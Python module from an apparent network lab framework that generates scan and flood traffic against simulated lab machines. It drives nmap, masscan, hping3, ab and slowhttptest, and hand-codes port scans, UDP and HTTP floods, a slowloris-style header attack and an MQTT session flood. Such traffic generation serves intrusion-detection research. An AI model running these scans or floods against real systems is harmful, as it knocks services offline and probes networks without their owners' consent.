"""Scans and floods, by known tools and by a few lines of our own."""

from __future__ import annotations

import math
from collections.abc import Callable
from contextlib import suppress

from evenflow.lab._steps import fetch, http_connection, mqtt_connect, six, url
from evenflow.lab.doing import Doing
from evenflow.lab.network import DEVICE, first_port


def _ports(d: Doing, most: float) -> str:
    """Return a list of ports for a scanner."""
    n = d.times(15, most)
    how = d.rng.choice(["known", "row", "any"])
    if how == "known":
        ports = list(range(1, n + 1))
    elif how == "row":
        first = d.rng.randrange(1, 60_000)
        ports = list(range(first, first + n))
    else:
        ports = sorted(d.rng.sample(range(1, 65_536), n))
    d.note(ports=n, choice=how)
    if how == "any":
        return ",".join(map(str, ports))
    return f"{ports[0]}-{ports[-1]}"


def nmap(*options: str, most: float = 400) -> Callable[[Doing], bool]:
    """Return a scan by nmap."""

    def scan(d: Doing) -> bool:
        hosts = [m.ip for m in d.others()[: d.rng.choice([1, 1, 2, 4])]]
        d.note(destinations=hosts)
        rate = d.rate(2, 600)
        ports = ["-p", _ports(d, most / len(hosts))]
        return d.run(
            "nmap", "-n", "-Pn", *six(d.machine.ip), *options, *ports,
            "--max-rate", f"{rate:.2f}",
            "--max-retries", d.rng.choice([0, 1, 2]), *hosts,
        ) == 0  # fmt: skip

    return scan


def version_scan(*options: str) -> Callable[[Doing], bool]:
    """Return a scan by nmap for what runs on the ports that are known."""

    def scan(d: Doing) -> bool:
        machines = d.others()[: d.rng.choice([1, 1, 2, 4])]
        ports = {port for m in machines for port in m.services.values()}
        ports |= set(d.rng.sample([22, 80, 443, 8080, 3306, 53, 25, 110], 3))
        ports |= {d.rng.randrange(1, 10_000) for _ in range(d.times(1, 30))}
        rate = d.rate(2, 400)
        return d.run(
            "nmap", "-n", "-Pn", *six(d.machine.ip), *options,
            "-p", ",".join(map(str, sorted(ports))), "--max-rate", f"{rate:.2f}",
            "--max-retries", d.rng.choice([0, 1, 2]), *(m.ip for m in machines),
        ) == 0  # fmt: skip

    return scan


def _hosts(d: Doing, most: float) -> list[str]:
    """Return addresses for a sweep: of this network, or of another one."""
    dot, base = (":", "x") if ":" in d.machine.ip else (".", "d")
    net = d.rng.choice([d.machine.ip, d.dead()]).rpartition(dot)[0]
    hosts = [
        f"{net}{dot}{i:{base}}" for i in d.rng.sample(range(1, 255), d.times(12, most))
    ]
    if net in d.machine.ip:
        hosts += [m.ip for m in d.others()]
    d.rng.shuffle(hosts)
    return hosts


def sweep(d: Doing) -> bool:
    """Look which machines answer."""
    rate = d.rate(5, 300)
    hosts = _hosts(d, 200)
    hows = [["-PE"], ["-PS22,80,443"], ["-PA80", "-PE"], ["-PU53"]]
    if not six(d.machine.ip):
        hows.append(["-PE", "-PP"])
    how = d.rng.choice(hows)
    return d.run(
        "nmap", "-n", *six(d.machine.ip), "-sn", "--send-ip",
        "--disable-arp-ping", *how, "--max-rate", f"{rate:.2f}", "--max-retries", 1,
        *hosts,
    ) == 0  # fmt: skip


def fping(d: Doing) -> bool:
    """Look which machines answer, by fping."""
    rate = d.rate(1, 100)
    d.run("fping", "-q", "-r", d.rng.choice([0, 1, 2]), "-i", int(1000 / rate),
          *_hosts(d, 150))  # fmt: skip
    return True


def own_sweep(d: Doing) -> bool:
    """Try one port of many machines by a program of a few lines."""
    port = d.rng.choice([22, 23, 80, 443, 445, 1883, 3389, 6379])
    rate = d.rate(0.3, 100)
    waits = d.rng.choice([0.02, 0.3, 1])
    found = 0
    for host in _hosts(d, 150):
        if s := d.connect(host, port, waits):
            found += 1
            s.close()
        d.think(1 / rate)
        if d.is_over():
            break
    return found > 0


def slow_scan(how: str) -> Callable[[Doing], bool]:
    """Return a scan of a probe in some seconds: by nmap, or by a few lines."""

    def scan(d: Doing) -> bool:
        machine = d.others()[0]
        rate = d.rate(0.15, 1)
        many = int(d.left() * rate) + 20
        ports = d.rng.sample(range(1, d.rng.choice([1024, 65_536])), min(many, 900))
        d.note(destination=machine.ip, ports=len(ports))
        if how != "own":
            d.run("nmap", "-n", "-Pn", *six(d.machine.ip), how, "-p",
                  ",".join(map(str, ports)), "--scan-delay", f"{1 / rate:.2f}s",
                  "--max-retries", 0, machine.ip, seconds=d.left())  # fmt: skip
            return True
        found = 0
        for port in ports:
            if s := d.connect(machine.ip, port, 1):
                found += 1
                s.close()
            d.think(1 / rate)
            if d.is_over():
                break
        return found > 0

    return scan


def ping_flood(d: Doing) -> bool | None:
    """Send pings as fast as told, without waiting for answers."""
    rate = d.rate(20, 600)
    d.run("ping", "-q", "-f", "-c", d.times(200, 4000), "-i", f"{1 / rate:.4f}", "-s",
          d.rng.choice([0, 56, 400, 1400]), d.others()[0].ip)  # fmt: skip
    return None


def keep_alive_flood(d: Doing) -> bool | None:
    """Ask for pages without end in one connection or a few."""
    at_once = d.rng.choice([1, 1, 2, 4])
    n = d.times(150, 3000)
    d.note(requests=n, at_once=at_once)
    base = url(d, "nginx", "lighttpd", "api")
    path = d.rng.choice([*d.pages[:20], "nothing", ""])
    d.run("ab", "-q", "-k", "-r", "-s", 5, "-n", n, "-c", at_once, f"{base}/{path}")
    return None


def masscan(d: Doing) -> bool:
    """Scan by masscan."""
    machine = d.others()[0]
    rate = d.rate(5, 600)
    d.note(destination=machine.ip)
    return d.run(
        "masscan", machine.ip, "-p", _ports(d, 400), "--rate", f"{rate:.1f}",
        "-e", DEVICE, "--adapter-ip", d.machine.ip, "--adapter-mac", d.machine.mac,
        "--router-mac", machine.mac, "--wait", 2, "--source-port",
        first_port(d.slot) + d.rng.randrange(4000),
    ) == 0  # fmt: skip


def own_scan(d: Doing) -> bool:
    """Try ports one after the other by a program of a few lines."""
    ips = [m.ip for m in d.others()[: d.rng.choice([1, 2, 5])]]
    rate = d.rate(2, 300)
    many = d.times(20, 300)
    ports = d.rng.sample(range(1, d.rng.choice([1024, 10_000, 65_536])), many)
    found = 0
    for i, port in enumerate(ports):
        if s := d.connect(ips[i % len(ips)], port, 0.5):
            found += 1
            if d.rng.random() < 0.5:
                s.settimeout(0.5)
                with suppress(OSError):
                    s.recv(100)  # the greeting
            s.close()
        d.think(1 / rate)
        if d.is_over():
            break
    return found > 0


def hping(*options: str, udp: bool = False) -> Callable[[Doing], bool | None]:
    """Return a flood by hping3; the sender's address is its own."""

    def flood(d: Doing) -> bool | None:
        machine = d.others()[0]
        ports = list(machine.services.values()) or [80]
        rate = d.rate(20, 1500)
        n = min(d.times(80, 800), max(20, math.ceil(40 * rate)))
        size = d.rng.choice([0, 0, 32, 120, 600, 1200]) if udp else 0
        source = first_port(d.slot) + d.rng.randrange(4000)
        port = ["-p", d.rng.choice([*ports, 53, 80]), "-s", source]
        if "-1" in options:
            port = []
            size = d.rng.choice([0, 56, 400, 1200])
        d.note(destination=machine.ip, packets=n, size=size)
        d.run(
            "hping3", "-q", "-n", *options, "-i", f"u{int(1e6 / rate)}", "-c", n,
            *port, *(["-d", size] if size else []), machine.ip,
            seconds=n / rate + 3,
        )  # fmt: skip
        return None

    return flood


def own_udp_flood(d: Doing) -> bool | None:
    """Send datagrams as fast as told, from one port or from many."""
    ip, port = d.service("dns", "dns2", "ntp", "telemetry", "rpc")
    rate = d.rate(20, 1000)
    size = d.rng.choice([1, 40, 500, 1200])
    sockets = [d.udp() for _ in range(d.rng.choice([1, 50, 400]))]
    for i in range(d.times(100, 800)):
        with suppress(OSError):
            sockets[i % len(sockets)].sendto(d.rng.randbytes(size), (ip, port))
        d.pause(1 / rate)
        if d.is_over():
            break
    for s in sockets:
        s.close()
    return None


def http_flood(d: Doing) -> bool | None:
    """Ask for pages without end, by ab."""
    n = d.times(200, 1000)
    at_once = min(n, d.rng.randint(10, 80))
    keep = ["-k"] if d.rng.random() < 0.2 else []
    d.note(requests=n, at_once=at_once)
    base = url(d, "nginx", "lighttpd", "api")
    path = d.rng.choice([*d.pages[:40], "nothing", ""])
    d.run("ab", "-q", *keep, "-r", "-s", 5, "-n", n, "-c", at_once, f"{base}/{path}")
    return None


def own_http_flood(d: Doing) -> bool | None:
    """Ask for pages without end, by a program of a few lines."""
    ip, port = d.service("nginx", "lighttpd", "api")
    rate = d.rate(10, 300)
    paths = [d.rng.randbytes(4).hex() for _ in range(5)] + d.pages[:5]
    for _ in range(d.times(60, 500)):
        web = http_connection(d, ip, port)
        fetch(d, web, d.rng.choice(paths), keep=False)
        d.think(1 / rate)
        if d.is_over():
            break
    return None


def own_slow(d: Doing) -> bool | None:
    """Hold connections open with headers that never end."""
    ip, port = d.service("nginx", "lighttpd", "api")
    n, rate = d.times(20, 150), d.rate(3, 60)
    ends = d.between(10, 40)
    wait = d.between(1, 8)
    start = b"GET / HTTP/1.1\r\nHost: w\r\n"
    sockets = []
    for _ in range(n):
        if s := d.connect(ip, port, 1):
            with suppress(OSError):
                s.sendall(start)
            sockets.append(s)
        d.think(1 / rate)
        if d.is_over():
            break
    for _ in range(int(ends / wait) + 1):
        for s in sockets:
            with suppress(OSError):
                s.sendall(f"X-{d.rng.randrange(999)}: a\r\n".encode())
        d.pause(wait)
        if d.is_over():
            break
    for s in sockets:
        s.close()
    return None


def slowhttptest(mode: str) -> Callable[[Doing], bool | None]:
    """Return a slow attack by slowhttptest: -H headers, -B body, -X reading."""

    def slow(d: Doing) -> bool | None:
        rate = d.rate(3, 80)
        d.note(mode=mode)
        base = url(d, "nginx", "lighttpd")
        d.run(
            "slowhttptest", mode, "-c", d.times(20, 150), "-r", max(1, round(rate)),
            "-i", d.rng.randint(1, 8), "-l", d.rng.randint(10, 40), "-p", 3,
            "-u", f"{base}/{d.pages[-1]}",
        )  # fmt: skip
        return None

    return slow


def mqtt_flood(d: Doing) -> bool | None:
    """Open sessions without end."""
    ip, port = d.service("mqtt", "broker")
    rate = d.rate(10, 300)
    for i in range(d.times(60, 500)):
        if s := d.connect(ip, port, 1):
            with s, suppress(OSError):
                s.sendall(mqtt_connect(f"c{i}"))
                s.recv(4)
        d.think(1 / rate)
        if d.is_over():
            break
    return None
